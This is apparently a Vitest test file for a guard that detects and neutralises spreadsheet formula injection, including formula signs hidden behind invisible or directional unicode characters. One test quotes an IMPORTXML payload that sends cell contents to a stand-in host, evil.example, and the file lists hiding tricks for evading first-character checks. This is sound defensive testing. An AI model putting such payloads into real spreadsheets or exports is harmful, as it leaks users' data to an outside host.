import { describe, expect, it } from 'vitest'
import { neutraliseFormula, startsFormula } from './formula-guard'

/** What a hostile sender puts before a formula sign so that a check of the first character misses it. */
const HIDING = {
  space: ' ',
  'no-break space': '\u00A0',
  'ideographic space U+3000': '\u3000',
  'em space': '\u2003',
  'narrow no-break space': '\u202F',
  tab: '\t',
  'line feed': '\n',
  'carriage return': '\r',
  'line separator': '\u2028',
  'zero-width space': '\u200B',
  'zero-width non-joiner': '\u200C',
  'zero-width joiner': '\u200D',
  'word joiner': '\u2060',
  BOM: '\uFEFF',
  'soft hyphen': '\u00AD',
  'left-to-right mark': '\u200E',
  'right-to-left override': '\u202E',
  'left-to-right embedding': '\u202A',
  'first strong isolate': '\u2068',
  'pop directional isolate': '\u2069',
  'variation selector': '\uFE0F',
  'Hangul filler': '\u3164',
  'braille blank': '\u2800',
}

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁼', '⁺', '⁻', '−', '⩵']

describe('startsFormula', () => {
  it('sees every formula sign, ASCII, full-width or small', () => {
    for (const sign of SIGNS) expect(startsFormula(`${sign}IMPORTXML("http://x","//a")`), sign).toBe(true)
  })

  it('sees the sign behind anything a person cannot see or a sheet may drop, alone or stacked', () => {
    for (const [name, hiding] of Object.entries(HIDING)) {
      for (const sign of ['=', '+', '-', '@', '＝', '＠']) {
        expect(startsFormula(`${hiding}${sign}1+1`), `${name} before ${sign}`).toBe(true)
        expect(startsFormula(`${hiding}\u200B \u202E${sign}1`), `${name}, then more, before ${sign}`).toBe(true)
      }
    }
  })

  it('keeps the contract for a tab or a carriage return at the start, whatever follows', () => {
    expect(startsFormula('\tnote')).toBe(true)
    expect(startsFormula('\rnote')).toBe(true)
  })

  it('leaves ordinary text alone, signs inside it included', () => {
    for (const text of ['', '   ', '\u200B', '华东区', ' 南京路店', '\u3000说明', '2026-03', '1-2', 'a=b', 'e-mail', "'=already text", 'x@y.z', '(=1)', '＃1']) {
      expect(startsFormula(text), JSON.stringify(text)).toBe(false)
    }
  })
})

describe('neutraliseFormula', () => {
  it('puts a quote mark in front, so a sheet shows the same text', () => {
    expect(neutraliseFormula('+IMPORTXML("http://evil.example/?"&A1,"//a")')).toBe(`'+IMPORTXML("http://evil.example/?"&A1,"//a")`)
    expect(neutraliseFormula('\u202E=1+1')).toBe("'\u202E=1+1")
    expect(neutraliseFormula('＝SUM(A1)')).toBe("'＝SUM(A1)")
    expect(neutraliseFormula('南京路店')).toBe('南京路店')
  })
})
